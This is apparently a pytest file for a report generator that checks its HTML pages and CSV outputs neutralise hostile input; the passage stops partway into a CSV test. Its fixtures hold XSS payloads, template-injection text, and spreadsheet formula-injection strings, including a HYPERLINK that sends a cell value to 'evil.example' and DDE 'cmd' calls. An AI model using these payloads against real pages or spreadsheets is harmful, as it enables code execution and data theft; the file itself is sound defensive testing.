"""The HTML report: an index of the run and a page per document; highlighting from recorded spans; inert text."""

import csv
import itertools
import random
import re
from pathlib import Path
from types import SimpleNamespace

import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook
from typer.testing import CliRunner

from pipeline.classify import LexicalClassifier, load_lexicon
from pipeline.classify.highlight import match_spans, normalised_words, place_substituted
from pipeline.classify.text import folded, lemma, normalise_for_matching
from pipeline.cli import app
from pipeline.config import Settings
from pipeline.coverage import classify_document
from pipeline.report import FORMULA_TRIGGERS, write_reports
from pipeline.report_html import (
    asset_text,
    csp_source_hash,
    document_pages,
    highlight_segments,
    render_index,
    span_segments,
    template_environment,
    write_document_pages,
)
from pipeline.training import DEFAULT_LEXICON
from pipeline.types import Coverage, Evidence, Passage, Signal, Skipped, Status
from tests.conftest import SAMPLE_CORPUS
from tests.report_store import doc_id, make_store

RUN_RECORD = {
    "tool": {"name": "promise-map", "version": "9.9.9"},
    "created": "2026-01-02T03:04:05+00:00",
    "corpus": "corpora/test",
    "reference": {"sha256": "ab" * 32, "frameworks": [
        {"id": "calls_to_action", "name": "The Promise: 55 calls to action", "version": "2020-south-ayrshire-55",
         "source": "seed", "items": 55},
        {"id": "inspection_principles", "name": "Inspection principles", "version": "2020-promise-p119",
         "source": "p.119", "items": 13}]},
    "classifier": {"name": "LexicalClassifier", "signals": ["quote", "tfidf"]},
    "settings": {"thresholds": {"quote": {"covered": 0.9, "partial": 0.9}, "tfidf": {"covered": 0.4, "partial": 0.25}},
                 "corroboration_passages": 2, "max_evidence": 3, "password": None},
    "inputs": [{"file": "plan.txt", "sha256": "cd" * 32, "pages": 3, "extractor": "text/1"}],
    "counts": {"documents": 2},
    "timings_seconds": {"extract": 0.1},
}

HOSTILE_TEXTS = [
    "<script>window.__pwned = 1</script>",
    "<img src=x onerror=\"window.__pwned=2\">",
    "<a href=\"javascript:window.__pwned=3\">read more</a>",
    "<svg onload=alert(4)></svg>",
    "<iframe src=\"javascript:alert(5)\"></iframe>",
    "\"><body onload=alert(6)>",
    "</textarea></style></script><script>alert(7)</script>",
    "{{ 7*7 }} {% raw %}",
]


def evidence(text, *, page=4, signal=Signal.TFIDF, matched="siblings, brothers sisters", heading="Plan › Siblings",
             lead_in="", spans=None):
    """Evidence as the classifier gives it: the spans of its matched words recorded (unless given)."""
    return Evidence(passage_id="x#0001", page=page, heading=heading, text=text, score=0.52, signal=signal,
                    matched=matched, lead_in=lead_in,
                    spans=match_spans(text, matched, signal) if spans is None else spans)


def fixture_coverages(reference_set, *, doc_a="plan.txt", doc_b="roads.txt", text="Brothers and sisters stay "
                      "together.", heading="Plan › Siblings", matched="siblings, brothers sisters"):
    """Two documents over every item: plan.txt covers CARE-3 and partially CARE-4, with a near miss for CARE-5;
    roads.txt covers nothing."""
    coverages = []
    for document in (doc_a, doc_b):
        for item in reference_set.items:
            if document == doc_a and item.id == "CARE-3":
                coverages.append(Coverage(doc=document, item=item, status=Status.COVERED, score=0.52,
                                          evidence=(evidence(text, heading=heading, matched=matched),),
                                          threshold=0.4, partial_threshold=0.25))
            elif document == doc_a and item.id == "CARE-4":
                coverages.append(Coverage(doc=document, item=item, status=Status.PARTIAL, score=0.3,
                                          evidence=(evidence("Family time matters.", page=7, matched="family time"),)))
            elif document == doc_a and item.id == "CARE-5":
                coverages.append(Coverage(doc=document, item=item, status=Status.MISSING, score=0.12,
                                          near_miss=evidence("Moves are planned.", page=9, matched="moves")))
            else:
                coverages.append(Coverage(doc=document, item=item, status=Status.MISSING, score=0.0))
    return coverages


def parse(html):
    return BeautifulSoup(html, "html5lib")


STORE_NUMBERS = itertools.count()


class Rendered(SimpleNamespace):
    """A run's index and document pages (by document name), as rendered from a store of its coverages."""

    def page(self, name="plan.txt"):
        return parse(self.pages[name])


def render(folder, reference_set, coverages, skipped=(), run_record=RUN_RECORD, *, report_dir=None):
    """Render the index and every document page of a run held as coverages named by document."""
    store = make_store(Path(folder) / f"run-{next(STORE_NUMBERS)}.sqlite", coverages, list(skipped))
    try:
        index = render_index(store, reference_set, run_record, report_dir=report_dir)
        pages_dir = Path(report_dir or folder) / "report"
        pages = {info.name: html for info, html in document_pages(store, reference_set, run_record, pages_dir)}
    finally:
        store.close()
    return Rendered(index=index, pages=pages)


@pytest.fixture(scope="module")
def fixture_run(reference_set, tmp_path_factory):
    skipped = [Skipped(file="broken.pdf", stage="extract", reason="the PDF is damaged: no page tree")]
    return render(tmp_path_factory.mktemp("fixture"), reference_set, fixture_coverages(reference_set), skipped)


@pytest.fixture(scope="module")
def fixture_html(fixture_run):
    return fixture_run.index


# --- matched-word highlighting -------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", [
    "Siblings stay together.",
    "South Ayrshire's children; the local authority and The Council must re-orientate services.",
    "Don’t ‘quote’ me — it's 3pm, e-mail: a-b-c -x- x- -x",
    "Ünïcödé façade İstanbul ΑΣ naïve",
    "  \n\t  ",
    "",
    "decision-making\nabout their care (see p. 12)",
    "beneﬁt ﬂexible ﬁrst, South\u00a0Ayrshire’s re\u2011orientate co\u00adordinate café Æsir",
])
def test_normalised_words_rebuild_the_classifiers_normal_form(text):
    words = normalised_words(text)
    assert " ".join(word.text for word in words) == normalise_for_matching(text)
    for word in words:
        assert 0 <= word.start < word.end <= len(text)


def test_normalised_words_agree_with_the_classifier_on_every_sample_paragraph():
    paragraphs = [p for path in sorted(SAMPLE_CORPUS.iterdir()) for p in path.read_text(encoding="utf-8").split("\n\n")]
    assert len(paragraphs) > 100
    for paragraph in paragraphs:
        assert " ".join(w.text for w in normalised_words(paragraph)) == normalise_for_matching(paragraph), paragraph


def replayed_words(text):
    """The normalisation replayed character by character: what normalised_words finds in place, spans included."""
    chars, spans = [], []
    for index, char in enumerate(text):
        for lowered in folded(char).lower().replace("’", "'").replace("‘", "'"):
            chars.append(lowered)
            spans.append((index, index + 1))
    chars, spans = place_substituted(chars, spans)
    words, letters, start, end = [], [], 0, 0
    for position, char in enumerate(chars):
        joins = (char == "-" and 0 < position < len(chars) - 1
                 and "a" <= chars[position - 1] <= "z" and "a" <= chars[position + 1] <= "z")
        if joins or char == "'":
            continue
        if "a" <= char <= "z" or "0" <= char <= "9":
            if not letters:
                start = spans[position][0]
            letters.append(char)
            end = spans[position][1]
        elif letters:
            words.append(("".join(letters), start, end))
            letters = []
    if letters:
        words.append(("".join(letters), start, end))
    return words


def test_normalised_words_find_the_words_and_spans_a_character_by_character_replay_finds():
    pieces = [*"ab Z9-'’‘ .é–İßﬁ", "\u2011", "\u00ad", "South Ayrshire", "south ayrshire's", " the council ",
              "THE COUNCIL", "re-orientate", "a'-b", "a-'b", "x--y", "9-a", "a-9"]
    rng = random.Random(7)
    texts = ["".join(rng.choice(pieces) for _ in range(rng.randint(0, 14))) for _ in range(20_000)]
    texts += [p for path in sorted(SAMPLE_CORPUS.iterdir()) for p in path.read_text(encoding="utf-8").split("\n\n")]
    for text in texts:
        assert [tuple(word) for word in normalised_words(text)] == replayed_words(text), text


def marked(segments):
    return [piece for piece, is_match in segments if is_match]


def test_recorded_spans_split_the_text_and_segments_rebuild_it():
    text = "Brothers and Sisters should STAY together; siblings matter."
    segments = span_segments(text, ((0, 8), (13, 20), (43, 51)))
    assert "".join(piece for piece, _ in segments) == text
    assert marked(segments) == ["Brothers", "Sisters", "siblings"]


@pytest.mark.parametrize("spans", [((0, 4), (2, 8)), ((5, 3),), ((-3, 4), (20, 99)), ((0, 8), (0, 8))])
def test_overlapping_reversed_or_outside_spans_never_break_the_text(spans):
    text = "Brothers stay."
    segments = span_segments(text, spans)
    assert "".join(piece for piece, _ in segments) == text


def test_spans_are_drawn_as_recorded_without_normalising_the_text_again(reference_set, tmp_path, monkeypatch):
    """The evidence text is highlighted from `Evidence.spans` only: replaying the normalisation was what made
    a 1,000-document report slow. (A heading or lead-in, which spans do not cover, may still be matched.)"""
    import pipeline.classify.highlight as highlight

    def refuse(text):
        raise AssertionError(f"normalised again: {text!r}")

    shown = evidence("Brothers and sisters stay together.", heading="", spans=((13, 20),))
    coverages = [Coverage(doc="plan.txt", item=item, status=Status.COVERED, score=0.52, evidence=(shown,))
                 if item.id == "CARE-3" else Coverage(doc="plan.txt", item=item, status=Status.MISSING, score=0.0)
                 for item in reference_set.items]
    monkeypatch.setattr(highlight, "normalised_words", refuse)
    row = render(tmp_path, reference_set, coverages).page().select_one("tr#CARE-3")
    assert [mark.get_text() for mark in row.select("blockquote.passage mark")] == ["sisters"]


def test_tfidf_terms_are_highlighted_case_insensitively_and_segments_rebuild_the_text():
    text = "Brothers and Sisters should STAY together; siblings matter."
    segments = highlight_segments(text, "brothers sisters, siblings, stay", Signal.TFIDF)
    assert "".join(piece for piece, _ in segments) == text
    assert marked(segments) == ["Brothers", "Sisters", "STAY", "siblings"]


def test_function_words_inside_matched_bigrams_are_not_highlighted():
    segments = highlight_segments("They feel the relationships on the ward.", "on the, feel they, relationship ward",
                                  Signal.MODEL)
    assert marked(segments)[:1] == ["feel"] and "the" not in marked(segments) and "They" not in marked(segments)
    assert "ward" in marked(segments)


def test_terms_recorded_as_lemmas_highlight_the_inflected_word():
    if lemma("children") != "child":
        pytest.skip("the lemma table is not installed (spacy-lookups-data)")
    segments = highlight_segments("Children's hearings were redesigned.", "child hearing", Signal.MODEL)
    assert marked(segments) == ["Children's", "hearings"]


def test_quotation_is_highlighted_through_the_place_name_folding():
    text = "In short: South Ayrshire must ensure that decision making is based on what the child needs. Next."
    span = "scotland must ensure that decision making is based on what the child needs"
    assert marked(highlight_segments(text, span, Signal.QUOTE)) == [
        "South Ayrshire must ensure that decision making is based on what the child needs"]


def test_quotation_that_started_in_the_lead_in_highlights_only_the_part_in_the_passage():
    text = "stay together with their brothers and sisters, and that is monitored."
    span = "scotland already has a presumption that children will stay together with their brothers and sisters"
    assert marked(highlight_segments(text, span, Signal.QUOTE)) == ["stay together with their brothers and sisters"]


@pytest.mark.parametrize("matched", ["", "   ", ",,", "zzz, qqq"])
def test_nothing_to_highlight_leaves_the_text_whole(matched):
    text = "Siblings stay together."
    assert highlight_segments(text, matched, Signal.TFIDF) == ((text, False),)
    assert highlight_segments(text, matched, Signal.QUOTE) == ((text, False),)


def test_highlighting_an_empty_text_gives_no_segments():
    assert highlight_segments("", "siblings", Signal.TFIDF) == ()
    assert span_segments("", ((0, 3),)) == ()


# --- the index: the corpus at a glance ----------------------------------------------------------------------------

def page_href(name):
    return f"report/{doc_id(name)}.html"


def test_overview_counts_documents_per_item_and_filters_by_foundation(fixture_html, reference_set):
    page = parse(fixture_html)
    rows = page.select("#overview table.overview tbody tr")
    assert [row["id"] for row in rows] == [f"item-{item.id}" for item in reference_set.items]
    counts = {row["id"]: [td.get_text(strip=True) for td in row.select("td.num")] for row in rows}
    # covered, partial, missing; then supporting, opposing, mixed documents (the fixture's evidence has no stance)
    assert counts["item-CARE-3"] == ["1", "0", "1", "0", "0", "0"]
    assert counts["item-CARE-4"] == ["0", "1", "1", "0", "0", "0"]
    assert counts["item-VOICE-1"] == ["0", "0", "2", "0", "0", "0"]
    care_3 = page.select_one("tr#item-CARE-3")
    assert (care_3["data-group"], care_3["data-covered-by"], care_3["data-sort-covered"]) == ("Care", "some", "1")
    assert page.select_one("tr#item-CARE-4")["data-covered-by"] == "none"
    assert [span["class"] for span in care_3.select(".bar span")] == [["b-covered", "w50"], ["b-partial", "w0"],
                                                                      ["b-missing", "w50"]]
    filters = {select["data-filter"]: [o["value"] for o in select.select("option")]
               for select in page.select("#overview select[data-filter]")}
    assert filters["covered-by"] == ["", "none", "some"]
    assert filters["opposed-by"] == ["", "some", "none"]
    assert filters["framework"] == ["", "calls_to_action", "inspection_principles"]
    assert "Inspection and Regulation" in filters["group"]
    assert [th["data-sort-key"] for th in page.select("#overview thead th[data-sort-key]")] == [
        "order", "covered", "partial", "missing", "supports", "opposes", "mixed"]
    assert "67 of 68 items are covered by no document" in page.select_one("#overview").get_text(" ", strip=True)


def test_heatmap_has_a_cell_per_document_and_item_grouped_by_foundation(fixture_html, reference_set):
    page = parse(fixture_html)
    heatmap = page.select_one("#heatmap table.heatmap")
    body_rows = heatmap.select("tbody tr")
    assert [row.th.get_text(strip=True) for row in body_rows] == ["plan.txt", "roads.txt"]
    assert all(len(row.select("td")) == 2 + len(reference_set.items) for row in body_rows)
    header_ids = [th.get_text(strip=True) for th in heatmap.select("thead th.item-id")]
    assert header_ids == heatmap["data-items"].split()
    assert sorted(header_ids) == sorted(item.id for item in reference_set.items)
    groups = [th.get_text(strip=True) for th in heatmap.select("thead tr")[1].select("th")]
    assert groups == ["Voice", "Family", "Care", "People", "Scaffolding", "Inspection and Regulation"]
    assert [int(group["span"]) for group in heatmap.select("colgroup.group-start")] == [6, 8, 22, 8, 11, 13]
    cells = dict(zip(header_ids, body_rows[0].select("td")[2:], strict=True))
    assert cells["CARE-3"]["class"] == ["c2"] and cells["CARE-4"]["class"] == ["c1"]
    assert not cells["CARE-5"].get("class") and cells["CARE-3"].get_text() == "●"
    assert body_rows[0]["data-href"] == page_href("plan.txt") and body_rows[0].th.a["href"] == page_href("plan.txt")


def test_heatmap_is_paged_with_the_first_page_shown(tmp_path, reference_set):
    names = tuple(f"doc-{n:03d}.txt" for n in range(120))
    coverages = [Coverage(doc=name, item=item, status=Status.MISSING, score=0.0)
                 for name in names for item in reference_set.items]
    page = parse(render(tmp_path, reference_set, coverages).index)
    bodies = page.select("#heatmap table.heatmap tbody")
    assert [len(body.select("tr")) for body in bodies] == [50, 50, 20]
    assert [body.has_attr("hidden") for body in bodies] == [False, True, True]
    assert [o.get_text() for o in page.select("select[data-page-select] option")] == ["1–50", "51–100", "101–120"]
    assert len(page.select("#documents table.documents tbody tr")) == 120


def test_document_list_links_each_document_to_its_page_with_its_counts(fixture_html):
    page = parse(fixture_html)
    rows = page.select("#documents table.documents tbody tr")
    assert [row.select_one("td[data-name] a")["href"] for row in rows] == [page_href("plan.txt"),
                                                                           page_href("roads.txt")]
    plan = [td.get_text(strip=True) for td in rows[0].select("td")]
    assert plan[:5] == ["1", "plan.txt", "1", "1", "66"] and plan[5:7] == ["1/55", "0/13"]
    assert (rows[0]["data-covers"], rows[1]["data-covers"]) == ("some", "none")
    assert page.select_one("#documents input[data-filter-text='name']") is not None
    assert page.select_one("#documents th[data-sort-key='name']").has_attr("data-sort-text")


def test_run_metadata_date_versions_thresholds_and_failed_files(fixture_html):
    page = parse(fixture_html)
    text = page.get_text(" ", strip=True)
    assert "2026-01-02T03:04:05+00:00" in text and "9.9.9" in text
    assert "2020-south-ayrshire-55" in text and "2020-promise-p119" in text and "ab" * 32 in text
    thresholds = [[td.get_text(strip=True) for td in row.select("td")]
                  for row in page.select("#run table.thresholds tbody tr")]
    assert [row[0] for row in thresholds] == ["quote", "tfidf"]
    assert thresholds[1][2:] == ["0.4", "0.25"]
    failed = page.select_one("#run").get_text(" ", strip=True)
    assert "broken.pdf extract the PDF is damaged: no page tree" in failed
    assert "name: LexicalClassifier; signals: quote, tfidf" in failed


def test_a_run_with_no_document_still_renders_and_says_why(tmp_path, reference_set):
    skipped = [Skipped(file="only.pdf", stage="extract", reason="encrypted: give --password")]
    rendered = render(tmp_path, reference_set, [], skipped, run_record={})
    page = parse(rendered.index)
    assert "No document could be mapped" in page.get_text()
    assert "encrypted: give --password" in page.select_one("#run").get_text()
    assert page.select("table.heatmap") == [] and len(page.find_all("script")) == 1
    assert rendered.pages == {}


def test_heatmap_headers_carry_the_item_text_in_their_tooltip(fixture_html, reference_set):
    heatmap = parse(fixture_html).select_one("#heatmap table.heatmap")
    headers = {a.get_text(): a["title"] for a in heatmap.select("thead th.item-id a")}
    for item_id in ("VOICE-1", "VOICE-2", "CARE-22"):
        assert reference_set.item(item_id).text in headers[item_id]


def test_per_item_thresholds_are_a_table_not_a_run_on_line(reference_set, tmp_path):
    thresholds = {item.id: round(0.3 + index / 200, 4) for index, item in enumerate(reference_set.items)}
    record = {**RUN_RECORD, "classifier": {"name": "PromiseClassifier", "training_sha256": "ef" * 32,
                                           "signals": ["quote", "model"], "item_thresholds": thresholds}}
    page = parse(render(tmp_path, reference_set, fixture_coverages(reference_set), run_record=record).index)
    run = page.select_one("#run")
    classifier = run.find("dt", string="Classifier").find_next_sibling("dd").get_text()
    assert "PromiseClassifier" in classifier and "VOICE-1" not in classifier
    table = run.select_one("table.item-thresholds")
    assert [th.get_text() for th in table.select("thead th")] == ["Item", "Threshold"]
    rows = [[td.get_text(strip=True) for td in tr.select("td")] for tr in table.select("tbody tr")]
    assert len(rows) == len(reference_set.items)
    assert rows[0] == ["VOICE-1", "0.300"] and rows[-1] == ["IP-13", f"{thresholds['IP-13']:.3f}"]
    assert table.select_one("a[href='#item-VOICE-1']") is not None


def test_a_run_without_item_thresholds_shows_no_threshold_table(fixture_html):
    assert parse(fixture_html).select("#run table.item-thresholds") == []


# --- a document's page ------------------------------------------------------------------------------------------

def test_gap_table_rows_carry_the_filter_and_sort_keys(fixture_run, reference_set):
    page = fixture_run.page()
    assert page.h1.get_text() == "plan.txt" and page.select_one("nav.toc a")["href"] == "../report.html"
    rows = page.select("table.gap-table tbody tr")
    assert [row["id"] for row in rows] == [item.id for item in reference_set.items]
    row = page.select_one("tr#CARE-3")
    assert (row["data-framework"], row["data-group"], row["data-status"]) == ("calls_to_action", "Care", "covered")
    assert row["data-sort-score"] == "0.520" and row["data-sort-status"] == "2" and row["data-sort-page"] == "4"
    filters = {select["data-filter"]: [o["value"] for o in select.select("option")]
               for select in page.select("select[data-filter]")}
    assert filters["status"] == ["", "covered", "partial", "missing"]
    assert filters["framework"] == ["", "calls_to_action", "inspection_principles"]
    assert "Inspection and Regulation" in filters["group"]
    sortable = [th["data-sort-key"] for th in page.select("thead th[data-sort-key]")]
    assert sortable == ["order", "status", "score", "page"]
    counts = page.select_one("p.counts").get_text(" ", strip=True)
    assert "1 covered, 1 partial, 53 missing of 55" in counts and "0 covered, 0 partial, 13 missing of 13" in counts


def test_gap_table_shows_status_score_and_threshold_of_every_item(fixture_run):
    page = fixture_run.page()
    cells = [td.get_text(" ", strip=True) for td in page.select_one("tr#CARE-3").select("td")]
    # item, foundation, title; status, stance, commitment (none: the fixture's evidence was not read), score...
    assert cells[3:9] == ["covered", "", "", "0.520", "0.400", "tfidf"]
    assert page.select_one("tr#CARE-4").select("td")[7].get_text(strip=True) == "signal's"  # the run's threshold


def test_evidence_shows_page_heading_signal_score_and_highlighted_words(fixture_run):
    page = fixture_run.page()
    row = page.select_one("tr#CARE-3")
    meta = row.select_one(".ev-meta").get_text(" ", strip=True)
    assert "page 4" in meta and "Plan › Siblings" in meta and "tfidf" in meta and "0.520" in meta
    assert "siblings, brothers sisters" in meta
    assert [mark.get_text() for mark in row.select("blockquote.passage mark")] == ["Brothers", "sisters"]
    assert row.select_one("blockquote.passage").get_text() == "Brothers and sisters stay together."
    missing = page.select_one("tr#CARE-6")
    assert missing.select_one("details") is None and "no passage" in missing.get_text()


def test_a_missing_item_shows_its_near_miss(fixture_run):
    row = fixture_run.page().select_one("tr#CARE-5")
    near_miss = row.select_one("details.near-miss")
    assert "near miss: page 9, score 0.520" in near_miss.summary.get_text()
    assert "below the partial threshold" in near_miss.get_text()
    assert [mark.get_text() for mark in near_miss.select("blockquote.passage mark")] == ["Moves"]


def single_evidence_row(tmp_path, reference_set, shown):
    """The rendered gap-table row of plan.txt's CARE-3, whose one evidence passage is `shown`."""
    coverages = [Coverage(doc="plan.txt", item=item, status=Status.COVERED, score=0.52, evidence=(shown,))
                 if item.id == "CARE-3" else Coverage(doc="plan.txt", item=item, status=Status.MISSING, score=0.0)
                 for item in reference_set.items]
    return render(tmp_path, reference_set, coverages).page().select_one("tr#CARE-3")


def test_bullet_whose_matched_words_are_in_its_lead_in_shows_the_lead_in_highlighted(tmp_path, reference_set):
    """Regression: a model's "words that weighed most" came from the lead-in, which the report never showed."""
    lead_in = "We will redesign <b>Children's Hearings</b> & the panel, by:"
    shown = evidence("▶ giving effect to the promise;", signal=Signal.MODEL, matched="hearing, redesign",
                     lead_in=lead_in)
    row = single_evidence_row(tmp_path, reference_set, shown)
    [line] = row.select("ol.evidence p.lead-in")
    assert line.get_text() == f"introduced by: {lead_in}"
    assert line.find("b") is None and "&lt;b&gt;Children" in str(line) and "&amp; the panel" in str(line)
    assert [mark.get_text() for mark in line.select("mark")] == ["redesign", "Hearings"]
    assert line.find_next_sibling("blockquote", class_="passage") is not None  # above the passage text
    assert row.select("blockquote.passage mark") == []


def test_words_matched_in_the_heading_are_highlighted_there(tmp_path, reference_set):
    """The classifier reads the nearest heading with the passage, so a match's words may only be there."""
    shown = evidence("Spending time there must be as short as possible.", signal=Signal.MODEL,
                     matched="secure care, short", heading="Plan › Secure <care>")
    row = single_evidence_row(tmp_path, reference_set, shown)
    meta = row.select_one(".ev-meta")
    assert [mark.get_text() for mark in meta.select("mark")] == ["Secure", "care"]
    assert "&lt;<mark>care</mark>&gt;" in str(meta)  # the heading is untrusted text too
    assert [mark.get_text() for mark in row.select("blockquote.passage mark")] == ["short"]


def test_quotation_that_started_in_the_lead_in_is_highlighted_in_both(tmp_path, reference_set):
    shown = evidence("stay together with their brothers and sisters, and that is monitored.", signal=Signal.QUOTE,
                     matched="scotland already has a presumption that children will stay together with their "
                             "brothers and sisters",
                     lead_in="South Ayrshire already has a presumption that children will:")
    row = single_evidence_row(tmp_path, reference_set, shown)
    assert [m.get_text() for m in row.select("p.lead-in mark")] == [
        "South Ayrshire already has a presumption that children will"]
    assert [m.get_text() for m in row.select("blockquote.passage mark")] == [
        "stay together with their brothers and sisters"]


@pytest.mark.parametrize("lead_in", ["", "  \n "])
def test_evidence_without_a_lead_in_renders_as_before(tmp_path, reference_set, lead_in):
    with_lead_in = single_evidence_row(tmp_path, reference_set,
                                       evidence("Brothers and sisters stay together.", lead_in=lead_in))
    without = single_evidence_row(tmp_path, reference_set, evidence("Brothers and sisters stay together."))
    assert with_lead_in.select("p.lead-in") == [] and str(with_lead_in) == str(without)
    assert [mark.get_text() for mark in without.select("blockquote.passage mark")] == ["Brothers", "sisters"]


def test_coverage_carries_the_passage_lead_in_and_spans_into_the_evidence(reference_set):
    lead_in = "The Promise recommends steps, including:"
    care_3 = reference_set.item("CARE-3")
    passage = Passage(id="ab:0-10", doc="ab", page=2, start=0, end=10, heading="H", text=care_3.text,
                      lead_in=lead_in)
    lexical = LexicalClassifier(lexicon=load_lexicon(DEFAULT_LEXICON)).fit(reference_set.items)
    _, coverages = classify_document(SimpleNamespace(sha256="ab", name="plan.txt"), [passage], lexical,
                                     reference_set.items, Settings())
    [verdict] = [coverage for coverage in coverages if coverage.item.id == "CARE-3"]
    assert verdict.status is Status.COVERED and verdict.evidence[0].lead_in == lead_in
    assert verdict.evidence[0].spans  # what the report draws


def test_gap_tables_show_each_items_text_beside_its_title(fixture_run, reference_set):
    for page in (fixture_run.page(), parse(fixture_run.index)):
        prefix = "item-" if page.select_one("table.overview") else ""
        voice_1, voice_2 = page.select_one(f"tr#{prefix}VOICE-1"), page.select_one(f"tr#{prefix}VOICE-2")
        assert "DECISION MAKING" in voice_1.get_text() and "DECISION MAKING" in voice_2.get_text()
        assert reference_set.item("VOICE-1").text in voice_1.get_text(" ")
        assert reference_set.item("VOICE-2").text in voice_2.get_text(" ")
        long_text = reference_set.item("CARE-22").text
        details = page.select_one(f"tr#{prefix}CARE-22 details.item-text")
        summary = details.summary.get_text()
        assert summary.endswith("…") and len(summary) < len(long_text) and long_text.startswith(summary[:-1].rstrip())
        assert long_text in details.get_text(" ")  # the whole text when expanded
        assert details.summary["title"] == long_text  # and on hover


def test_document_pages_are_written_by_document_id(tmp_path, reference_set):
    store = make_store(tmp_path / "run.sqlite", fixture_coverages(reference_set))
    written = write_document_pages(tmp_path / "out", store, reference_set, RUN_RECORD)
    store.close()
    assert written == [tmp_path / "out" / "report" / f"{doc_id(name)}.html" for name in ("plan.txt", "roads.txt")]
    assert all(path.read_text(encoding="utf-8").startswith("<!DOCTYPE html>") for path in written)


# --- self-contained pages ---------------------------------------------------------------------------------------

def pages_of(rendered):
    return [rendered.index, *rendered.pages.values()]


def test_pages_are_self_contained_and_allow_only_their_own_script_and_style(fixture_run):
    for html in pages_of(fixture_run):
        page = parse(html)
        [script] = page.find_all("script")
        [style] = page.find_all("style")
        assert script.string == asset_text("report.js") and not script.get("src")
        policy = page.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
        assert "default-src 'none'" in policy
        assert f"script-src {csp_source_hash(script.string)}" in policy
        assert f"style-src {csp_source_hash(style.string)}" in policy
        assert not page.find_all(["link", "img", "iframe", "object", "embed", "base", "form"])
        links = [a["href"] for a in page.find_all("a", href=True) if not a["href"].startswith("#")]
        assert all(re.fullmatch(r"report/[0-9a-f]{64}\.html|\.\./report\.html(#[\w-]+)?", link) for link in links)
        assert not re.search(r"https?://", html)


def test_script_never_builds_markup_from_text():
    script = asset_text("report.js")
    for forbidden in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "Function(", "</"):
        assert forbidden not in script


def test_autoescaping_is_on_for_every_template():
    environment = template_environment()
    assert environment.autoescape is True
    rendered = environment.from_string("{{ value }}").render(value="<b onclick=x>")
    assert rendered == "&lt;b onclick=x&gt;"


def test_same_input_renders_the_same_pages(reference_set, tmp_path):
    first = render(tmp_path, reference_set, fixture_coverages(reference_set))
    second = render(tmp_path, reference_set, fixture_coverages(reference_set))
    assert pages_of(first) == pages_of(second)


# --- hostile document text ------------------------------------------------------------------------------------------

#: Attributes a browser follows or loads as a URL.
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href",
                            "background", "cite", "ping", "manifest", "http-equiv", "content"})


def assert_inert(html, *, expected_texts=()):
    """No executable content: our one script, no handlers, no javascript: URLs, no active elements; text kept."""
    page = parse(html)
    scripts = page.find_all("script")
    assert len(scripts) == 1 and scripts[0].string == asset_text("report.js")
    for element in page.find_all(True):
        for attribute, value in element.attrs.items():
            assert not attribute.lower().startswith("on"), (element.name, attribute)
            if attribute.lower() not in URL_ATTRIBUTES:
                continue  # a title or data-* attribute holding "javascript:..." is text, shown or read as such
            values = value if isinstance(value, list) else [value]
            for entry in values:
                squashed = re.sub(r"[\s\x00-\x1f]+", "", str(entry)).lower()
                assert not squashed.startswith(("javascript:", "data:", "vbscript:")), (element.name, attribute, entry)
    assert not page.find_all(["img", "iframe", "svg", "object", "embed", "base", "form"])
    assert len(page.find_all("body")) == 1 and page.body.attrs == {}
    text = page.get_text()
    for expected in expected_texts:
        assert expected in text, expected


HOSTILE_NAME = f"<b onmouseover=alert(1)>plan</b>{HOSTILE_TEXTS[0]}.txt"


@pytest.fixture(scope="module")
def hostile_pages(reference_set, tmp_path_factory):
    payload = " ".join(HOSTILE_TEXTS)
    coverages = fixture_coverages(reference_set, doc_a=HOSTILE_NAME,
                                  text=f"{payload} Brothers and sisters stay together.", heading=HOSTILE_TEXTS[1],
                                  matched="script, pwned, brothers sisters, onerror")
    skipped = [Skipped(file=HOSTILE_TEXTS[2], stage="extract", reason=HOSTILE_TEXTS[3])]
    record = {**RUN_RECORD, "corpus": HOSTILE_TEXTS[4], "created": HOSTILE_TEXTS[5]}
    return render(tmp_path_factory.mktemp("hostile"), reference_set, coverages, skipped, run_record=record)


def test_hostile_text_in_the_index_renders_as_inert_text(hostile_pages):
    assert_inert(hostile_pages.index, expected_texts=[HOSTILE_NAME, *HOSTILE_TEXTS[2:6]])


def test_hostile_text_in_a_document_page_renders_as_inert_text(hostile_pages):
    html = hostile_pages.pages[HOSTILE_NAME]
    assert_inert(html, expected_texts=[*HOSTILE_TEXTS, HOSTILE_NAME, "Brothers and sisters stay together."])
    marks = [mark.get_text() for mark in parse(html).select("tr#CARE-3 mark")]
    assert "script" in marks and "Brothers" in marks  # highlighted, yet still text
    assert "{{ 7*7 }}" in html and "49" not in parse(html).select_one("tr#CARE-3").get_text()


HOSTILE_DOCUMENT = """# <script>window.__pwned = 'heading'</script> Brothers and sisters

=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details") Scotland already has a presumption that children \
will stay together with their brothers and sisters. That presumption must be fully implemented and closely monitored.

+cmd|' /C calc'!A0 All children must be supported to continue relationships that are important to them, where it \
is safe to do so.

@SUM(1+1)*cmd|' /C calc'!A0 <img src=x onerror="window.__pwned='img'"> <a href="javascript:window.__pwned='link'">\
read more</a> Any transition in a care experienced child or young person's life must be limited, relational, planned \
and informed.

-2+3 <svg onload="window.__pwned='svg'"></svg> <iframe src="javascript:window.__pwned='frame'"></iframe> Children must \
be listened to and meaningfully and appropriately involved in decision-making about their care.
"""
HOSTILE_FILE_NAME = "+cmd <b onmouseover=alert(9)>hostile.txt"


def write_hostile_corpus(folder):
    folder.mkdir()
    (folder / HOSTILE_FILE_NAME).write_text(HOSTILE_DOCUMENT, encoding="utf-8")
    (folder / "=HYPERLINK(1).odt").write_bytes(b"PK\x03\x04 <script>alert(1)</script>")
    return folder


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    corpus = write_hostile_corpus(base / "corpus")
    out = base / "out"
    result = CliRunner().invoke(app, ["map", str(corpus), "--out", str(out), "--quiet"])
    assert result.exit_code == 0, result.output
    return out


def leading_trigger(value):
    """A cell a spreadsheet would read as a formula: text starting with a trigger, unless it is a plain number
    (gap_table.csv's margin, "-0.25", is read as the number it is)."""
    return (isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)
            and not re.fullmatch(r"-\d+(\.\d+)?", value))


@pytest.mark.slow
def test_hostile_document_gives_plain_text_cells_in_every_csv(hostile_run):
